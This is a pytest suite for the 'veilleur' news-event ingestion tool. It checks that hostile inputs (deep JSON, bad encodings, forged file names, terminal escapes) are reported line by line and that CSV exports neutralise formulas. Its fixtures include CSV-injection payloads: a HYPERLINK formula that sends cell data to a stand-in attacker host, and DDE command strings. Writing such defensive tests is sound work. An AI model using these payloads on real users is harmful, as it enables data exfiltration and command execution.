"""Issue 13: nothing lost, nothing doubled, nothing executed.

Hostile and unlucky inputs (deep JSON, huge documents, dates at the calendar's edges, bad bytes, UTF-16
without a byte-order mark, control characters in file names), formula payloads in CSV exports, ids with a
slash, and the POST endpoint judged per document. Real files, real SQLite ledgers, the real ``veilleur``
command and a real server on loopback.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
from pathlib import Path
from urllib.parse import quote

import pytest

from conftest import RunCli
from veilleur import api
from veilleur.errors import DateOutOfRangeError, MalformedRecordError, ReplacedBytesWarning
from veilleur.ingest import read_paths
from veilleur.ingest.records import IngestProblem
from veilleur.ingest.text import decode_bytes_noting
from veilleur.model import Claim, DateValue, Document, Event, Place, Source, Span
from veilleur.pipeline import MAX_PIECE_CHARS, split_text
from veilleur.printing import printable
from veilleur.settings import Settings
from veilleur.store import open_store
from web_helpers import build_small_ledger, get_json, http, running_server

TOKEN = "hardening-token"


def report(place: str, day: int, outlet: str = "Alpha", doc_id: str | None = None, killed: int = 4) -> dict:
    """A one-sentence English report (English skips the statistical model: fast)."""
    return {
        "id": doc_id or f"{outlet.lower()}-{place.lower()}-{day}",
        "outlet": outlet,
        "published": f"2023-03-{day:02d}",
        "language": "en",
        "text": f"Gunmen killed {killed} civilians in an attack on {place} on Monday, residents said.",
    }


def jsonl(path: Path, records: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def stored_ids(db: Path) -> set[str]:
    with sqlite3.connect(db) as conn:
        return {r[0] for r in conn.execute("SELECT id FROM documents")}


# ---------------------------------------------------------------- every input failure is that input's


@pytest.fixture
def bad_folder(tmp_path: Path) -> Path:
    """Every bad input of the issue next to valid neighbours; the ledger lives in the same folder."""
    root = tmp_path / "inbox"
    root.mkdir()
    jsonl(root / "a_good.jsonl", [report("Gao", 14), report("Kidal", 15)])
    (root / "b_deep.json").write_text("[" * 100_000 + "]" * 100_000)
    deep_line = '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}"
    (root / "c_deep_line.jsonl").write_text(deep_line + "\n" + json.dumps(report("Menaka", 16)) + "\n")
    dates = [
        {**report("Mopti", 17), "published": "9999-12-31"},
        {**report("Segou", 18), "published": "0001-01-01"},
        report("Sikasso", 19),
        {**report("Kayes", 20), "id": 12.5},
    ]
    jsonl(root / "d_dates.jsonl", dates)
    filler = "The market in the town reopened after the rains and traders returned to the square.\n\n"
    long_text = filler * (1_200_000 // len(filler)) + report("Timbuktu", 21)["text"]
    (root / "e_long.txt").write_text(long_text, encoding="utf-8")
    utf16 = json.dumps(report("Niono", 22)) + "\n" + json.dumps(report("Bourem", 23)) + "\n"
    (root / "f_utf16.jsonl").write_bytes(utf16.encode("utf-16-le"))  # no byte-order mark
    bad_byte = report("Ansongo", 24)["text"].replace("civilians", "civilians (café)").encode() + b" \xff ok."
    (root / "g_bad_byte.txt").write_bytes(bad_byte)
    (root / "h_evil\nname.txt").write_text(report("Douentza", 25)["text"] + "\x1b[2J\x1b[31m", encoding="utf-8")
    return root


def test_a_folder_of_bad_inputs_stores_every_valid_document_and_names_every_bad_one(
    bad_folder: Path, run_cli: RunCli
) -> None:
    db = bad_folder / "ledger.db"
    jsonl(bad_folder / "seed.jsonl", [report("Gao", 14, outlet="Seed", doc_id="seed-1")])
    assert run_cli("--db", db, "ingest", bad_folder / "seed.jsonl", "--no-progress").returncode == 0
    (bad_folder / "seed.jsonl").unlink()
    result = run_cli("--db", db, "ingest", bad_folder, "--no-progress", "--published", "2023-03-20")
    err = result.stderr
    assert result.returncode == 1, err
    assert "internal error" not in err and "Traceback" not in err
    lines = err.splitlines()
    # every bad input is one line naming the file (and line or record) with a stable code
    assert any(
        f"{bad_folder / 'b_deep.json'}: " in line and "nested too deeply" in line and "[V104]" in line for line in lines
    )
    assert any(f"{bad_folder / 'c_deep_line.jsonl'}:1: " in line and "[V104]" in line for line in lines)
    assert any(
        f"{bad_folder / 'd_dates.jsonl'}:1: " in line and "9999-12-31 is out of range" in line and "[V110]" in line
        for line in lines
    )
    assert any(f"{bad_folder / 'd_dates.jsonl'}:2: " in line and "[V110]" in line for line in lines)
    assert any(f"{bad_folder / 'd_dates.jsonl'}:4: " in line and "got the fraction 12.5" in line for line in lines)
    assert not any("got a number" in line for line in lines)
    # the bad byte: a warning naming the file and the offset, the document stored all the same
    warning = [line for line in lines if "g_bad_byte.txt" in line]
    assert len(warning) == 1 and warning[0].startswith("warning: ") and "at offset" in warning[0]
    assert "[V112]" in warning[0]
    # the ledger's own files are not inputs, and the UTF-16 file is not "binary content"
    assert not any("ledger.db" in line.split(" -> ")[0] for line in lines)
    assert not any("binary content" in line for line in lines)
    # a newline in a file name cannot forge a line; escape sequences never reach the terminal
    assert "\x1b" not in err
    summary = lines[-1]
    assert summary.startswith("9 documents read: 9 added"), summary
    assert "5 inputs could not be read" in summary and "1 warning" in summary
    assert len(lines) == 6 + 1  # five problems, one warning, one summary: nothing forged
    ids = stored_ids(db)
    expected = {
        "alpha-gao-14", "alpha-kidal-15", "alpha-menaka-16", "alpha-sikasso-19", "alpha-niono-22",
        "alpha-bourem-23", "seed-1",
    }  # fmt: skip
    assert expected <= ids and len(ids) == 10  # the 9 documents read + the seed
    with open_store(db) as store:
        texts = {d.origin: d for d in (store.get_document(i) for i in ids) if d is not None}
    long_doc = texts[str(bad_folder / "e_long.txt")]
    assert len(long_doc.text) > 1_000_000
    events = api.list_events(Settings(db_path=db), document_id=long_doc.id)
    assert events, "the event at the end of a 1.2 MB document is found"
    spans = [s for e in events for src in e.sources if src.document_id == long_doc.id for s in src.evidence]
    assert spans and all(long_doc.text[s.start : s.end] == s.text for s in spans)
    assert all(s.start > 1_000_000 for s in spans)
    bad = texts[str(bad_folder / "g_bad_byte.txt")]
    assert "café" in bad.text and "\ufffd" in bad.text  # UTF-8 kept, one byte replaced: not cp1252 mojibake
    # the exact joined count: Gao (day 14) joins the seed's event; nothing else is reported twice
    assert "1 joined events already in the ledger" in summary


def test_a_newline_in_a_file_name_and_escapes_in_text_are_printed_escaped(tmp_path: Path, run_cli: RunCli) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    evil = folder / "x\n12 documents read: 12 added, 0 already stored; 0 new events.jsonl"
    evil.write_text('{"text": ""}\n', encoding="utf-8")
    jsonl(folder / "ok.jsonl", [{**report("Gao", 14), "outlet": "Alpha \x1b]0;pwned\x07\x1b[31m"}])
    db = tmp_path / "l.db"
    result = run_cli("--db", db, "ingest", folder, "--no-progress")
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 2, lines  # the problem and the summary, the forged summary stays inside its line
    assert "x\\n12 documents read" in lines[0]
    assert lines[1].startswith("1 documents read")
    event_id = api.list_events(Settings(db_path=db))[0].id
    shown = run_cli("--db", db, "events", "--show", event_id)
    assert shown.returncode == 0
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "\\x1b]0;pwned\\x07\\x1b[31m" in shown.stdout
    table = run_cli("--db", db, "events")
    assert "\x1b" not in table.stdout


def test_printable_escapes_controls_and_keeps_text() -> None:
    assert printable("Ségou — «ok» 日本") == "Ségou — «ok» 日本"
    assert printable("a\nb\rc\td\x1b[0m\x9b\u202e\u2028") == "a\\nb\\rc\\td\\x1b[0m\\x9b\\u202e\\u2028"


def test_dates_at_the_calendar_edges_never_crash_the_pipeline() -> None:
    from veilleur.pipeline import Pipeline

    pipeline = Pipeline(Settings())
    text = (
        "Gunmen killed 4 civilians in an attack on Gao on Monday, residents said. Last Friday, the week "
        "before, yesterday, two days ago, next Monday and on Sunday 3 January troops clashed in Kidal."
    )
    for day in (dt.date(1, 1, 1), dt.date(1, 1, 2), dt.date(9999, 12, 31), dt.date(9999, 12, 30)):
        doc = Document(id=f"d-{day}", text=text, published=day, language="en")
        [(_, events)] = list(pipeline.process([doc]))
        assert all(e.date.date is None or dt.date(1, 1, 1) <= e.date.date for e in events)


def test_published_dates_out_of_range_are_a_named_problem(tmp_path: Path) -> None:
    path = jsonl(
        tmp_path / "d.jsonl",
        [
            {**report("Gao", 14), "published": p}
            for p in ("1899-12-31", "1900-01-01", f"{dt.date.today().year + 2}-01-01")
        ],
    )
    items = list(read_paths(path))
    kinds = [type(i.error) if isinstance(i, IngestProblem) else Document for i in items]
    assert kinds == [DateOutOfRangeError, Document, DateOutOfRangeError]
    assert str(items[0]).endswith(
        f"'published' 1899-12-31 is out of range (Veilleur reads dates from 1900 to {dt.date.today().year + 1}) [V110]"
    )


def test_published_option_out_of_range_is_a_usage_error(tmp_path: Path, run_cli: RunCli) -> None:
    result = run_cli("--db", tmp_path / "l.db", "ingest", tmp_path, "--published", "9999-12-31")
    assert result.returncode == 2 and "out of range" in result.stderr


def test_split_text_cuts_at_paragraphs_and_keeps_every_character() -> None:
    text = ("A sentence here. Another one follows.\n\n" * 4000) + "x" * 250_000 + " tail."
    pieces = split_text(text)
    assert "".join(p for _, p in pieces) == text
    assert all(len(p) <= MAX_PIECE_CHARS for _, p in pieces)
    assert all(text[o : o + len(p)] == p for o, p in pieces)
    assert pieces[0][1].endswith("\n\n")  # a paragraph break, not the middle of a word


def test_a_failing_document_is_its_own_problem_and_its_neighbours_are_stored(tmp_path: Path) -> None:
    from veilleur.pipeline import Pipeline

    class Fragile(Pipeline):
        def extract(self, document, parsed, context=(), own=None):  # type: ignore[no-untyped-def]
            if "Kidal" in document.text:
                raise RecursionError("maximum recursion depth exceeded")
            return super().extract(document, parsed, context, own)

    settings = Settings(db_path=tmp_path / "l.db", batch_size=8)
    path = jsonl(tmp_path / "d.jsonl", [report("Gao", 14), report("Kidal", 15), report("Menaka", 16)])
    lines: list[str] = []
    result = api.ingest(path, settings=settings, pipeline=Fragile(settings), on_problem=lines.append)
    assert result.documents_added == 2 and result.documents_failed == 1
    assert lines == [
        f"{path}:2: could not be processed (RecursionError: maximum recursion depth exceeded); "
        "the other documents are stored [V111]"
    ]
    assert stored_ids(tmp_path / "l.db") == {"alpha-gao-14", "alpha-menaka-16"}


# ---------------------------------------------------------------- encodings


def test_utf8_with_one_bad_byte_is_utf8_with_a_warning() -> None:
    text = "Sécurité : l'armée a repoussé une attaque à Ménaka."
    data = text.encode() + b" \x92 fin."
    decoded, warning = decode_bytes_noting(data)
    assert decoded.startswith(text) and decoded.endswith(" \ufffd fin.")
    assert warning is not None and f"offset {len(text.encode()) + 1}" in warning and "0x92" in warning
    legacy = text.encode("cp1252")  # the whole file is cp1252: read as cp1252, no warning
    assert decode_bytes_noting(legacy) == (text, None)


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-16"])
def test_utf16_text_and_json_lines_without_or_with_a_bom(tmp_path: Path, codec: str) -> None:
    text = "Des hommes armés ont attaqué Ménaka mardi."
    (tmp_path / "a.txt").write_bytes(text.encode(codec))
    lines = json.dumps({"id": "u1", "text": text}) + "\n" + json.dumps({"id": "u2", "text": "Gao."}) + "\n"
    (tmp_path / "b.jsonl").write_bytes(lines.encode(codec))
    items = list(read_paths(tmp_path))
    assert all(isinstance(i, Document) for i in items), items
    assert [i.text for i in items if isinstance(i, Document)] == [text, text, "Gao."]


def test_binary_files_are_still_binary(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    (tmp_path / "b.jsonl").write_bytes(bytes(range(256)) * 8)
    items = list(read_paths(tmp_path))
    assert [i.code for i in items if isinstance(i, IngestProblem)] == ["V102", "V102"]


def test_a_json_lines_line_with_a_bad_byte_is_read_with_a_warning(tmp_path: Path) -> None:
    raw = json.dumps({"id": "w", "text": "Attaque à Ménaka, café."}, ensure_ascii=False).encode()
    (tmp_path / "w.jsonl").write_bytes(raw.replace(b"caf\xc3\xa9", b"caf\xe9") + b"\n")
    items = list(read_paths(tmp_path / "w.jsonl"))
    assert isinstance(items[0], IngestProblem) and isinstance(items[0].error, ReplacedBytesWarning)
    assert items[0].is_warning and items[0].where.endswith("w.jsonl:1")
    assert isinstance(items[1], Document) and "Ménaka" in items[1].text


def test_id_that_is_a_fraction_says_so(tmp_path: Path) -> None:
    [problem] = list(read_paths(jsonl(tmp_path / "i.jsonl", [{"id": 12.5, "text": "Gao."}])))
    assert isinstance(problem, IngestProblem) and isinstance(problem.error, MalformedRecordError)
    assert "'id' must be a string or a whole number, got the fraction 12.5" in str(problem)


# ---------------------------------------------------------------- CSV formula injection

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "+1+1",
    "-2+3",
    "\r=1+1",
]


def _hostile_ledger(path: Path) -> None:
    events = []
    with open_store(path) as store:
        batch = []
        for n, payload in enumerate(PAYLOADS):
            doc = Document(id=f"{payload}#{n}", text=f"{payload} text", outlet=payload, content_hash=f"h{n}",
                           published=dt.date(2024, 3, 1))  # fmt: skip
            event = Event(
                id=f"ev-{n}", event_type="Battles", sub_event_type="Armed clash", notes=payload,
                date=DateValue(dt.date(2024, 3, 1), 1),
                place=Place(name=payload, latitude=-12.5, longitude=-8.0, country="ML", admin1=payload),
                fatalities=n,
                sources=[Source(document_id=doc.id, outlet=payload, claim=Claim.REPORTED,
                                evidence=[Span(0, len(payload), payload)])],
            )  # fmt: skip
            events.append(event)
            batch.append((doc, [event]))
        store.save(batch)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_with_a_formula_character_unless_raw(tmp_path: Path, run_cli: RunCli) -> None:
    db = tmp_path / "l.db"
    _hostile_ledger(db)
    out = tmp_path / "out.csv"
    assert run_cli("--db", db, "export", "--format", "csv", "-o", out).returncode == 0
    rows = _cells(out.read_bytes().decode("utf-8"))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (column, cell)
    assert {r["notes"] for r in rows} == {"'" + p for p in PAYLOADS}
    assert {r["latitude"] for r in rows} == {"-12.5"} and {r["longitude"] for r in rows} == {"-8.0"}
    assert sorted(int(r["fatalities"]) for r in rows) == list(range(len(PAYLOADS)))  # numbers stay numbers
    assert run_cli("--db", db, "export", "--format", "csv", "--raw", "-o", out).returncode == 0
    assert {r["notes"] for r in _cells(out.read_bytes().decode("utf-8"))} == set(PAYLOADS)
    stdout = run_cli("--db", db, "export", "--format", "csv")  # text mode: \r reads as \n here
    # the source names are stripped: "\t=1+1" becomes "=1+1", a live formula were it not neutralised
    assert {r["source"] for r in _cells(stdout.stdout)} == {"'" + p.strip() for p in PAYLOADS}


def test_the_api_export_is_safe_too(tmp_path: Path) -> None:
    db = tmp_path / "l.db"
    _hostile_ledger(db)
    with running_server(db) as base:
        status, _, body = http(f"{base}/api/export?format=csv")
        assert status == 200
        rows = _cells(body.decode())
        assert rows and all(
            not c.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(c) for r in rows for c in r.values()
        )
        raw = _cells(http(f"{base}/api/export?format=csv&raw=true")[2].decode())
        assert {r["notes"] for r in raw} == set(PAYLOADS)
        # ids with a slash, a quote, a hash, a percent sign: every route reaches them
        for n, payload in enumerate(PAYLOADS):
            doc_id = f"{payload}#{n}"
            doc = get_json(f"{base}/api/documents/{quote(doc_id, safe='')}")
            assert doc["id"] == doc_id


def test_ids_with_a_slash_reach_the_document_and_the_event(tmp_path: Path) -> None:
    db = tmp_path / "l.db"
    build_small_ledger(db)
    link = "https://example.org/2024/03/mali-attaque?id=7&x=%2F#top"
    with open_store(db) as store:
        doc = Document(id=link, text="A report.", url=link, content_hash="slash")
        event = Event(id="ev/with/slash", event_type="Battles", sub_event_type="Armed clash",
                      sources=[Source(document_id=link, evidence=[Span(0, 9, "A report.")])])  # fmt: skip
        store.save([(doc, [event])])
    with running_server(db) as base:
        assert get_json(f"{base}/api/documents/{quote(link, safe='')}")["id"] == link
        assert get_json(f"{base}/api/events/{quote('ev/with/slash', safe='')}")["event_id"] == "ev/with/slash"
        assert http(f"{base}/api/documents/{quote('no/such/doc', safe='')}")[0] == 404


# ---------------------------------------------------------------- POST /api/documents: per document


def test_post_documents_answers_per_document_never_500(tmp_path: Path) -> None:
    db = tmp_path / "l.db"
    build_small_ledger(db)
    good = {"Authorization": f"Bearer {TOKEN}"}
    with running_server(db, VEILLEUR_API_TOKEN=TOKEN) as base:
        url = f"{base}/api/documents"
        body = [
            report("Gao", 14, doc_id="post-ok"),
            {**report("Kidal", 15, doc_id="post-9999"), "published": "9999-12-31"},
            {**report("Menaka", 16), "id": 12.5},
            {"title": "no text"},
            "not an object",
            report("Sikasso", 19, doc_id="post-ok-2"),
        ]
        status, _, raw = http(url, method="POST", body=body, headers=good)
        assert status == 207, raw
        out = json.loads(raw)
        assert [r["status"] for r in out["results"]] == [200, 422, 422, 422, 422, 200]
        assert [r["outcome"] for r in out["results"]] == ["added"] + ["not read"] * 4 + ["added"]
        assert "[V110]" in out["results"][1]["problem"] and out["results"][1]["id"] == "post-9999"
        assert "fraction 12.5" in out["results"][2]["problem"]
        assert out["documents_added"] == 2
        status, _, raw = http(url, method="POST", body=[{"text": "x", "published": "0001-01-01"}], headers=good)
        assert status == 422 and json.loads(raw)["results"][0]["status"] == 422
        deep = b"[" * 50_000 + b"]" * 50_000
        import urllib.request

        request = urllib.request.Request(
            url, data=deep, method="POST", headers={**good, "Content-Type": "application/json"}
        )
        try:
            with urllib.request.urlopen(request, timeout=60) as response:
                code = response.status
        except urllib.error.HTTPError as exc:
            code = exc.code
        assert code in (400, 422)
        assert get_json(f"{base}/api/documents/post-ok-2")["id"] == "post-ok-2"
        status, _, raw = http(url, method="POST", body=[report("Gao", 14, doc_id="post-ok")], headers=good)
        assert status == 200 and json.loads(raw)["results"][0]["outcome"] == "already stored"


def test_json_safe_keeps_the_json_and_escapes_what_a_terminal_would_obey() -> None:
    from veilleur.printing import json_safe

    text = json.dumps({"notes": "a\u202eb\x9b[31mc\x7f é\n\x1b"}, ensure_ascii=False, indent=2)
    safe = json_safe(text)
    assert json.loads(safe) == json.loads(text)
    assert "\u202e" not in safe and "\x9b" not in safe and "\x7f" not in safe and "é" in safe
